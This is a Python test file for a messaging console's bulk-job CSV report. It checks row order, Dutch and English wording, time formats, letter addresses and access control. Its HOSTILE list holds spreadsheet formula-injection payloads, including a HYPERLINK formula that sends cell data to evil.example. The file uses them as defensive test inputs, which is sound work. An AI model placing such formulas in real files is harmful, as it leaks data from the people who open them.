"""A bulk job's report (CSV): every row of the job with its recipient, reference, status and times, in the
file's order, streamed in chunks; written for the person downloading it (the console's language, its words for
a status, times on the service's clock as its pages write them, a number written one way, an address on one
line as entered), every cell safe to open in a spreadsheet without a visible mark; offered on the job page."""
from __future__ import annotations

import csv
import io
import re
import uuid

from core.senders import add_setting
from models.db import utcnow
from models.job import Job
from models.notification import Notification
from pipeline.stages.jobs import report
from tests.console.browser import assert_accessible, downloaded_rows
from tests.console.service_pages import amsterdam, signed_in_client
from tests.console.users import create_console_user
from tests.factories import create_sample_template, create_service
from tests.jobs.helpers import csv_file, make_job, phone

HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"Klik")', "+SUM(1)", "@cmd", "-1+1"]
NOT_DELIVERED = "Niet afgeleverd: het adres of nummer bestaat niet"


def _job_with_sent_rows(service, count: int) -> Job:
    template = create_sample_template(service=service, name="Herinnering")
    job = make_job(service, template, csv_file(["phone number", "name"], [[phone(n), f"P{n}"] for n in range(count)]))
    now = utcnow()
    rows = []
    for n in range(count):
        row = Notification(id=uuid.uuid4(), service=service, key_type="live", notification_type="sms",
                           template_id=template.id, template_version=1, to=phone(n), normalised_to=phone(n),
                           status="delivered" if n % 3 else "permanent-failure", body="x", job_id=job.id,
                           job_row_number=n, created_at=now, sent_at=now, completed_at=now,
                           reference=HOSTILE[n - 1] if 1 <= n <= len(HOSTILE) else "-" if n == 5 else None)
        rows.append(row)
    rows.reverse()  # stored out of order: the report follows the file's rows, not the insert order
    Notification.bulk_create(rows, batch_size=100)
    Job.update(rows_processed=count, status="finished").where(Job.id == job.id).execute()
    return job


def _member_client(console_app, service, language="nl"):
    member = create_console_user(service=service, permissions=["view_activity", "send_messages"])
    client = signed_in_client(console_app, member.user)
    with client.session_transaction() as session:
        session["lang"] = language
    return client


def _rows(response) -> list[list[str]]:
    text = response.get_data(as_text=True)
    assert text.startswith("\ufeff")  # a byte order mark: Excel reads the file as UTF-8
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def test_the_report_holds_every_row_in_order_across_chunks_in_the_readers_words(console_app, monkeypatch):
    monkeypatch.setattr(report, "CHUNK", 4)
    service = create_service()
    job = _job_with_sent_rows(service, 10)
    response = _member_client(console_app, service).get(f"/services/{service.id}/jobs/{job.id}/report.csv")
    assert response.status_code == 200 and response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == f'attachment; filename="overzicht-people-{job.id}.csv"'
    rows = _rows(response)
    assert rows[0] == ["Rijnummer", "Ontvanger", "Referentie", "Sjabloon", "Kanaal", "Status", "Geaccepteerd op",
                       "Verstuurd op", "Afgerond op", "Bericht-ID", "In plaats daarvan verstuurd",
                       "In plaats daarvan: status", "In plaats daarvan: bericht-ID",
                       "Waarom er niets meer is verstuurd"]
    assert [r[0] for r in rows[1:]] == [str(n + 2) for n in range(10)]
    # The number written as every page writes it; the status in the words of the message's own page.
    assert rows[1][1:6] == ["06 12000000", "", "Herinnering", "Sms", NOT_DELIVERED]
    assert rows[2][1:6] == ["06 12000001", "\u200b" + HOSTILE[0], "Herinnering", "Sms", "Afgeleverd"]
    # A formula reads back as the text it was, behind a mark no reader sees; a lone "-" stays as it is.
    assert [r[2] for r in rows[2:7]] == ["\u200b" + value for value in HOSTILE] + ["-"]
    stored = Notification.get((Notification.job_id == job.id) & (Notification.job_row_number == 0))
    assert rows[1][6:9] == [amsterdam(stored.created_at)] * 3  # the service's clock, as its pages write it
    assert re.fullmatch(r"\d{1,2} [a-z]{3} \d{4} \d\d:\d\d CES?T", rows[1][6])
    assert {r[9] for r in rows[1:]} == {str(n.id) for n in Notification.select().where(Notification.job_id == job.id)}


def test_the_report_follows_the_consoles_language(console_app):
    service = create_service()
    job = _job_with_sent_rows(service, 2)
    response = _member_client(console_app, service, "en").get(f"/services/{service.id}/jobs/{job.id}/report.csv")
    assert response.headers["Content-Disposition"] == f'attachment; filename="report-people-{job.id}.csv"'
    rows = _rows(response)
    assert rows[0][:7] == ["Row number", "Recipient", "Reference", "Template", "Channel", "Status", "Accepted at"]
    assert rows[1][4:6] == ["Text message", "Not delivered: the address or number does not exist"]
    assert re.fullmatch(r"\d{1,2} [A-Z][a-z]{2} \d{4} \d\d:\d\d CES?T", rows[1][6])


def test_a_letter_reads_the_same_on_its_page_its_job_and_the_report(console_app):
    """One wording per status per channel; the address on one line as entered, without the two spaces PostNL
    asks for on the envelope between the postcode and the town."""
    service = create_service()
    add_setting("letter-contacts", str(service.id), value="Gemeente\nPostbus 1\n1000 AA Amsterdam", is_default=True)
    letter = create_sample_template(service=service, template_type="letter", name="Aanslag", body="Beste ((naam))")
    job = make_job(service, letter, csv_file(["adresregel 1", "adresregel 2", "adresregel 3", "naam"],
                                             [["J. Jansen", "Dorpsstraat 1", "1234 CD Voorbeeldstad", "Jan"]]))
    posted = Notification.create(id=uuid.uuid4(), service=service, key_type="live", notification_type="letter",
                                 template_id=letter.id, template_version=1, status="delivered", body="x",
                                 to="J. Jansen\nDorpsstraat 1\n1234 CD  VOORBEELDSTAD", job_id=job.id,
                                 job_row_number=0, created_at=utcnow())
    Job.update(rows_processed=1, status="finished").where(Job.id == job.id).execute()
    client = _member_client(console_app, service)
    rows = _rows(client.get(f"/services/{service.id}/jobs/{job.id}/report.csv"))
    assert rows[1][1:6] == ["J. Jansen, Dorpsstraat 1, 1234 CD VOORBEELDSTAD", "", "Aanslag", "Brief",
                            "Gedrukt en gepost"]
    job_page = client.get(f"/services/{service.id}/jobs/{job.id}").get_data(as_text=True)
    message_page = client.get(f"/services/{service.id}/notifications/{posted.id}").get_data(as_text=True)
    assert 'data-label="Status" class="utrecht-table__cell">Gedrukt en gepost</td>' in job_page
    assert '<dt>Gedrukt en gepost</dt>' in job_page  # the job's count of letters posted, in the same words
    assert '<strong class="notify-message-status">Gedrukt en gepost</strong>' in message_page
    assert "Afgeleverd" not in job_page


def test_another_services_job_has_no_report(console_app):
    service, other = create_service(), create_service()
    job = _job_with_sent_rows(other, 1)
    client = _member_client(console_app, service)
    assert client.get(f"/services/{service.id}/jobs/{job.id}/report.csv").status_code == 404
    assert client.get(f"/services/{service.id}/jobs/not-an-id/report.csv").status_code == 404


def test_the_job_page_offers_the_report(signed_in_member, service):
    page = signed_in_member
    job = _job_with_sent_rows(service, 3)
    page.goto(f"/services/{service.id}/jobs/{job.id}")
    assert_accessible(page)
    with page.expect_download() as download:
        page.click("#job-report")
    assert download.value.suggested_filename == f"overzicht-people-{job.id}.csv"
    rows = downloaded_rows(page.locator("#job-report"))
    assert len(rows) == 4 and rows[0][:3] == ["Rijnummer", "Ontvanger", "Referentie"]
    assert rows[1][:6] == ["2", "06 12000000", "", "Herinnering", "Sms", NOT_DELIVERED]
    # The page shows the same number and the same status words.
    first = page.locator("#job-messages tbody tr").first
    assert first.locator("td").nth(1).inner_text() == "06 12000000"
    assert first.locator("td").nth(2).inner_text() == NOT_DELIVERED
